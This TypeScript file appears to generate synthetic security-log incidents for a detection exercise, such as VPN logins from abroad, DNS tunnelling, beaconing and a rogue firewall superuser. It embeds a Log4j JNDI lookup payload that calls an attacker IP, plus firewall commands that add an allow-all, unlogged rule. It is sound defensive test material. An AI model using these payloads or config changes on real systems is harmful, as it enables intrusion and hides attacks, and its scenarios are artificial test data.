import { firewallConfig, firewallSystem, threat, traffic, vpn, web } from "../emit/network.ts";
import { identityLogon, shareAccess } from "../emit/windows.ts";
import { anomaly } from "../emit/upstream.ts";
import { financeShares, workstationOf } from "../everyday/windows.ts";
import { foreignPlaces, homeLine, hostingSpot } from "../org/places.ts";
import { host, server } from "../org/world.ts";
import type { Kind } from "./case.ts";

export const networkKinds: Kind[] = [
  {
    kind: "tunnel-from-new-country", area: "network", difficulty: "context", times: 2, types: ["account_compromise"],
    run: (c) => {
      const who = c.take((one) => one.sam !== undefined && one.department !== "IT");
      c.at(c.r.int(0, 22));
      const from = homeLine(c.r, c.r.pick(foreignPlaces));
      c.about(from.ip);
      const tunnel = `10.90.3.${c.r.int(5, 200)}`;
      c.core(vpn(c, c.t, who, from, "login", true, { machine: `DESKTOP-${c.r.hex(6).toUpperCase()}`, tunnel }));
      vpn(c, c.t + 3000, who, from, "connected", true, { machine: "DESKTOP", tunnel });
      c.core(identityLogon(c, c.step(2, 6), who, "unknown", tunnel, host(c.w, "FIN-DC01"), { protocol: "Ntlm" }));
      for (let i = 10; i > 0; i--) c.core(shareAccess(c, c.step(0.3, 1), host(c.w, "FIN-FS01"), who, tunnel,
        "Finance$", financeShares(c.r)));
      return "A finance account opens the tunnel from a country where nobody works, with an unknown computer, " +
        "and reads shares.";
    },
  },
  {
    kind: "regular-calls-home", area: "network", difficulty: "hard", types: ["account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.environment === "prod" || one.environment === "build");
      const from = hostingSpot(c.r);
      c.about(from.ip);
      c.at(c.r.int(0, 4));
      for (let i = 0; i < 60; i++) {
        const id = traffic(c, c.step(9.8, 10.3), { source: on.ip, destination: from.ip, port: 443,
          sent: c.r.int(610, 660), received: c.r.int(180, 210),
          rule: "servers-egress", zones: ["servers", "untrust"], seconds: 1 });
        if (i % 6 === 0) c.core(id);
      }
      return "For hours a server calls a rented machine every ten minutes with messages of nearly the same size.";
    },
  },
  {
    kind: "data-in-name-queries", area: "network", difficulty: "context",
    types: ["data_exfiltration", "account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.role === "application server" || one.role === "search engine");
      c.at(c.r.int(0, 22));
      const zone = `${c.r.hex(5)}-cdn.example`;
      c.about(zone);
      for (let i = 0; i < 45; i++) {
        const id = traffic(c, c.step(0.02, 0.1), { source: on.ip, destination: "9.9.9.9", port: 53, app: "dns",
          protocol: "udp", sent: c.r.int(230, 260),
          received: 120, rule: "dns-egress", host: `${c.r.hex(60)}.${c.r.hex(50)}.${zone}`,
            zones: ["servers", "untrust"] });
        if (i % 5 === 0) c.core(id);
      }
      return "A server asks for long random names of one domain, past the own name server.";
    },
  },
  {
    kind: "inner-network-scanned", area: "network", difficulty: "obvious", types: ["account_compromise"],
    run: (c) => {
      const who = c.take((one) => one.sam !== undefined);
      const source = workstationOf(c.w, who);
      c.about(source.name, source.ip);
      c.working(who);
      for (const on of [...c.w.servers, ...c.w.windows.slice(0, 8)]) {
        const id = traffic(c, c.step(0.005, 0.03), { source: source.ip, destination: on.ip,
          port: c.r.pick([22, 445, 3389, 5432, 6443]), action: "deny",
          zones: ["finance", "servers"] });
        if (c.r.chance(0.4)) c.core(id);
      }
      c.core(threat(c, c.step(0.1), { source: source.ip, destination: "10.60.0.10", port: 0, action: "drop",
        zones: ["finance", "servers"] },
        "SCAN: TCP Port Scan(8001)", "scan", "8"));
      return "A workstation of finance knocks at all servers within a minute.";
    },
  },
  {
    kind: "large-upload-by-server", area: "network", difficulty: "context", types: ["data_exfiltration"],
    run: (c) => {
      const on = c.takeServer((one) => ["database", "search engine", "git server"].includes(one.role));
      const from = hostingSpot(c.r);
      c.about(from.ip);
      c.at(c.r.pick([2, 13, 21]));
      for (let i = c.r.int(4, 7); i > 0; i--) {
        c.core(traffic(c, c.step(10, 30), { source: on.ip, destination: from.ip, port: 443,
          app: c.r.pick(["ssl", "rclone"]), sent: c.r.int(6, 15) *
          1_000_000_000, received: 3_000_000, rule: "servers-egress", zones: ["servers", "untrust"], seconds: 1500 }));
      }
      return "A server that never sends much pushes tens of gigabytes to a rented machine.";
    },
  },
  {
    kind: "firewall-opened-wide", area: "network", difficulty: "context",
    types: ["policy_violation", "sabotage", "account_compromise"],
    run: (c) => {
      c.at(c.r.pick([4, 21, 23]));
      const who = c.admin(/Network/);
      const name = `adm-${who.last.toLowerCase()}`;
      const ip = `10.90.2.${c.r.int(5, 250)}`;
      c.about(name, "fw-ham-01", ip);
      firewallSystem(c, c.t, "auth-success", `User '${name}' authenticated. From: ${ip}.`, "3", name);
      c.core(firewallConfig(c, c.step(2, 4), name, ip, "set",
        "/config/devices/entry/vsys/entry/rulebase/security/rules/entry[@name='tmp']", "",
        "from any; to any; source any; destination any; application any; service any; action allow; log-end no"));
      c.core(firewallConfig(c, c.step(1), name, ip, "move",
        "/config/devices/entry/vsys/entry/rulebase/security/rules/entry[@name='tmp']", "", "top"));
      c.core(firewallConfig(c, c.step(1), name, ip, "commit", ""));
      return "Outside the window a rule without logging that allows everything is put at the top, from a tunnel " +
        "address.";
    },
  },
  {
    kind: "tunnel-passwords-tried", area: "network", difficulty: "obvious", types: ["account_compromise"],
    run: (c) => {
      c.at(c.r.int(0, 22));
      const from = hostingSpot(c.r);
      c.about(from.ip, "gp-gateway-ham");
      for (const who of c.some(35)) {
        c.core(vpn(c, c.step(0.1, 0.4), who.upn.split("@")[0] ?? "", from, "login", false,
          { reason: "Authentication failed: Invalid username or password" }));
      }
      const hit = c.take((one) => one.sam !== undefined);
      c.core(vpn(c, c.step(0.3), hit, from, "login", true, { machine: "WIN-KALI", tunnel: "10.90.3.201" }));
      return "One address tries the tunnel with many names until one opens.";
    },
  },
  {
    kind: "hole-used-and-called-back", area: "network", difficulty: "obvious", times: 2, types: ["account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.role === "web server" || one.role === "application server");
      const from = hostingSpot(c.r);
      c.about(from.ip);
      c.at(c.r.int(0, 22));
      c.core(threat(c, c.t, { source: from.ip, destination: on.ip, port: 443, action: "allow" }, c.r.pick([
        "Apache Log4j Remote Code Execution Vulnerability(91991)", "Atlassian Confluence OGNL Injection(92632)"]),
          "vulnerability", "9",
      "/api/v1/search?q=${jndi:ldap://" + from.ip + ":1389/a}"));
      c.core(traffic(c, c.step(0.02, 0.1), { source: on.ip, destination: from.ip, port: 1389, app: "ldap",
        rule: "servers-egress", zones: ["dmz", "untrust"] }));
      c.core(traffic(c, c.step(0.1, 0.5), { source: on.ip, destination: from.ip, port: 8443, app: "unknown-tcp",
        sent: 90_000, received: 1_400_000,
        rule: "servers-egress", zones: ["dmz", "untrust"] }));
      return "An attack on a known hole is let through, and the attacked server calls the attacker back at once.";
    },
  },
  {
    kind: "proxy-avoided", area: "network", difficulty: "context", types: ["policy_violation", "insider_threat"],
    run: (c) => {
      const who = c.of("Support", "Engineering", "Marketing", "Sales");
      c.working(who);
      for (let i = 5; i > 0; i--) {
        c.core(web(c, c.step(1, 5), who, c.r.pick(["www.onionbridge.example/download", "get.psiphish.example/win",
          "hideme.webproxy.example/b"]),
          "Anonymizer", { from: c.spot(who), action: "Blocked" }));
      }
      c.core(web(c, c.step(3, 9), who, `${hostingSpot(c.r).ip}/obfs4`, "Miscellaneous or Unknown",
        { from: c.spot(who), sent: 84_000_000,
        received: 12_000_000, method: "CONNECT" }));
      return "After several blocked tries somebody gets past the proxy with a hidden tunnel and sends much through it.";
    },
  },
  {
    kind: "control-server-reached", area: "network", difficulty: "obvious", types: ["account_compromise"],
    run: (c) => {
      const who = c.anyone();
      c.working(who);
      const from = hostingSpot(c.r);
      c.about(from.ip, who.laptop.name);
      c.core(web(c, c.t, who, `cdn-sync-${c.r.hex(5)}.example/jquery-3.3.1.min.js`, "Malware Sites",
        { from: c.spot(who), threat: "Win32.Backdoor.CobaltSignal",
        destination: from.ip, method: "POST", sent: 4200 }));
      c.core(threat(c, c.step(0.3), { source: "10.20.8.61", destination: from.ip, port: 443, action: "allow",
        user: who.upn, rule: "allow-egress",
        zones: ["trust", "untrust"] }, "CobaltSignal Beacon Command and Control Traffic(86445)", "spyware", "9"));
      anomaly(c, c.step(30), who, from, "Unusual web request", 0.81, "CommandAndControl", "T1071");
      return "A computer talks to a known control server, seen by proxy and firewall, but not blocked.";
    },
  },
  {
    kind: "firewall-blinded", area: "network", difficulty: "context", types: ["sabotage", "policy_violation"],
    run: (c) => {
      c.workday();
      c.at(14);
      const who = c.admin(/Network|Systems/);
      const name = `adm-${who.last.toLowerCase()}`;
      c.about(name, "fw-ham-01");
      for (const path of ["/config/shared/log-settings/syslog/entry[@name='siem']",
        "/config/devices/entry/vsys/entry/profiles/vulnerability/entry[@name='strict']",
        "/config/devices/entry/vsys/entry/profiles/spyware/entry[@name='strict']"]) {
        c.core(firewallConfig(c, c.step(1, 3), name, "10.20.4.18", "delete", path, "enabled", ""));
      }
      c.core(firewallConfig(c, c.step(1), name, "10.20.4.18", "commit", ""));
      return "On an ordinary afternoon the forwarding of logs and the profiles against attacks are deleted.";
    },
  },
  {
    kind: "desktop-reached-from-internet", area: "network", difficulty: "context",
    types: ["account_compromise", "policy_violation"],
    run: (c) => {
      c.at(c.r.int(0, 22));
      const from = c.outside();
      const jump = host(c.w, "FIN-JMP01");
      c.about(from.ip, jump.name);
      for (let i = 3; i > 0; i--) {
        c.core(traffic(c, c.step(5, 30), { source: from.ip, destination: jump.ip, port: 3389, app: "ms-rdp",
          action: "allow", zones: ["untrust", "finance"],
          rule: "vendor-temp", sent: 2_000_000, received: 24_000_000, seconds: 1800 }));
      }
      return "A forgotten rule lets an unknown address open remote desktops on the jump host.";
    },
  },
  {
    kind: "nightly-shell-to-home", area: "network", difficulty: "hard", days: 4,
    types: ["insider_threat", "policy_violation"],
    run: (c) => {
      const on = c.takeServer((one) => one.environment === "build" || one.name.startsWith("stg"));
      const owner = c.of("Site Reliability", "Engineering");
      const target = owner.phoneLine.ip;
      c.about(target);
      for (let i = 0; i < 3; i++) {
        c.at(1);
        c.core(traffic(c, c.t, { source: on.ip, destination: target, port: 22, app: "ssh",
          sent: c.r.int(300, 900) * 1_000_000, received: 900_000,
          seconds: 5400, rule: "build-egress", zones: ["servers", "untrust"] }));
        c.nextDays(1);
      }
      return "Several nights a build host pushes some hundred megabytes to the line of an employee.";
    },
  },
  {
    kind: "account-made-on-firewall", area: "network", difficulty: "context",
    types: ["account_compromise", "privilege_escalation"],
    run: (c) => {
      c.at(c.r.int(0, 5));
      const from = hostingSpot(c.r);
      c.about(from.ip, "fw-ham-01");
      c.core(firewallSystem(c, c.t, "auth-success", `User 'admin' authenticated via API. From: ${from.ip}.`, "3",
        "admin"));
      c.core(firewallConfig(c, c.step(0.5, 2), "admin", from.ip, "set",
        "/config/mgt-config/users/entry[@name='supp0rt']", "",
        "permissions role-based superuser yes"));
      c.core(firewallConfig(c, c.step(0.3), "admin", from.ip, "commit", ""));
      c.core(traffic(c, c.step(2), { source: "62.153.88.14", destination: from.ip, port: 443, sent: 9_000_000,
        received: 20_000, rule: "self" }));
      return "From the Internet an administrator of the firewall itself is made, and its configuration leaves.";
    },
  },
  {
    kind: "monitor-probes-odd-port", area: "network", difficulty: "hard", types: ["account_compromise"],
    run: (c) => {
      const on = server(c.w, "mon-01");
      c.about(on.name);
      const from = hostingSpot(c.r);
      c.about(from.ip);
      c.at(c.r.int(6, 18));
      for (let i = 4; i > 0; i--) {
        c.core(traffic(c, c.step(55, 65), { source: on.ip, destination: from.ip, port: 443,
          host: "deadman-pagerbell.example", sent: c.r.int(20, 60) *
          1_000_000, received: 820, rule: "heartbeat", seconds: 40 }));
      }
      return "Next to the true heartbeat of the monitor a second one goes to a similar name, and is far too large.";
    },
  },
];
